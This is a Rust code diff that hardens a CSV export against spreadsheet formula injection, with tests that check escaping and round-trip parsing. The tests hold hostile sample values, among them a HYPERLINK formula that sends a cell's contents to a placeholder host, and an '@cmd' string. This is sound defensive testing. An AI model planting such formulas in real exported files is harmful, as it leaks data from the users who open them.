@@ -111,10 +111,13 @@ const HEADER: [&str; 15] = [
     "sources",
 ];
 
-/// RFC 4180 CSV: a header line, CRLF line ends, fields quoted when they hold a comma, a quote
-/// or a line break, with quotes doubled.
+/// The byte-order mark that tells spreadsheet programs (Excel above all) that the file is UTF-8.
+pub const UTF8_BOM: char = '\u{FEFF}';
+
+/// RFC 4180 CSV, starting with a UTF-8 byte-order mark: a header line, CRLF line ends, fields
+/// quoted when they hold a comma, a quote or a line break, with quotes doubled.
 pub fn to_csv(rows: &[ExportRow]) -> String {
-    let mut out = String::new();
+    let mut out = String::from(UTF8_BOM);
     write_line(&mut out, &HEADER);
     for row in rows {
         write_line(&mut out, &row.cells());
@@ -132,12 +135,20 @@ fn write_line(out: &mut String, cells: &[&str]) {
     out.push_str("\r\n");
 }
 
-/// One CSV field, quoted only when it must be.
+/// One CSV field, quoted only when it must be. A field that a spreadsheet would read as a
+/// formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return, or their full-width
+/// forms) gets a leading `'`, so that it stays text (OWASP's advice on CSV injection).
 pub fn csv_field(value: &str) -> String {
-    if value.contains([',', '"', '\r', '\n']) {
-        format!("\"{}\"", value.replace('"', "\"\""))
+    let formula = value.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
+    let value = if formula {
+        format!("'{value}")
     } else {
         value.to_owned()
+    };
+    if formula || value.contains([',', '"', '\r', '\n']) {
+        format!("\"{}\"", value.replace('"', "\"\""))
+    } else {
+        value
     }
 }
 
@@ -162,6 +173,70 @@ mod tests {
     }
 
     #[test]
+    fn neutralises_formulas() {
+        assert_eq!(csv_field("=1+1"), "\"'=1+1\"");
+        assert_eq!(csv_field("-1+1"), "\"'-1+1\"");
+        assert_eq!(csv_field("@SUM(A1)"), "\"'@SUM(A1)\"");
+        assert_eq!(csv_field("\tx"), "\"'\tx\"");
+        assert_eq!(csv_field("＝1"), "\"'＝1\"");
+        assert_eq!(csv_field("a=b"), "a=b", "only a leading sign counts");
+    }
+
+    #[test]
+    fn a_csv_parser_reads_every_field_back() {
+        let mut dossier = DossierFile::from_json(
+            include_str!("../../public/data/dossiers.json"),
+            &["001", "facts"],
+        )
+        .unwrap()
+        .dossiers
+        .remove(0);
+        let hostile = [
+            "=HYPERLINK(\"https://x.example/?\"&A1,\"click\")",
+            "+1",
+            "-1+1",
+            "@cmd",
+            "\tlead",
+            "a, b \"c\"\r\nsecond line",
+            "Dragoş Jerković “Path” ’",
+        ];
+        let dossiers: Vec<_> = hostile
+            .iter()
+            .map(|title| {
+                dossier.title = (*title).to_owned();
+                dossier.clone()
+            })
+            .collect();
+        let rows: Vec<ExportRow> = dossiers
+            .iter()
+            .map(|d| ExportRow::new(d, "id-1", Status::InForce))
+            .collect();
+        let csv = to_csv(&rows);
+        let body = csv
+            .strip_prefix(UTF8_BOM)
+            .expect("the file starts with a BOM");
+        let mut reader = csv::ReaderBuilder::new().from_reader(body.as_bytes());
+        let title = HEADER.iter().position(|h| *h == "title").unwrap();
+        let read: Vec<String> = reader
+            .records()
+            .map(|r| r.expect("a valid CSV record")[title].to_owned())
+            .collect();
+        let expected: Vec<String> = hostile
+            .iter()
+            .map(|t| {
+                if t.starts_with(['=', '+', '-', '@', '\t']) {
+                    format!("'{t}")
+                } else {
+                    (*t).to_owned()
+                }
+            })
+            .collect();
+        assert_eq!(read, expected);
+        let headers = reader.headers().unwrap();
+        assert_eq!(headers.len(), HEADER.len());
+    }
+
+    #[test]
     fn exports_rows_with_header_and_crlf() {
         let file = DossierFile::from_json(
             include_str!("../../public/data/dossiers.json"),
@@ -175,7 +250,7 @@ mod tests {
             .unwrap();
         let id = dsa.id();
         let csv = to_csv(&[ExportRow::new(dsa, &id, Status::InForce)]);
-        let lines: Vec<&str> = csv.split("\r\n").collect();
+        let lines: Vec<&str> = csv.trim_start_matches(UTF8_BOM).split("\r\n").collect();
         assert_eq!(lines.len(), 3, "header, one row, and the final line end");
         assert_eq!(lines[0], HEADER.join(","));
         assert_eq!(
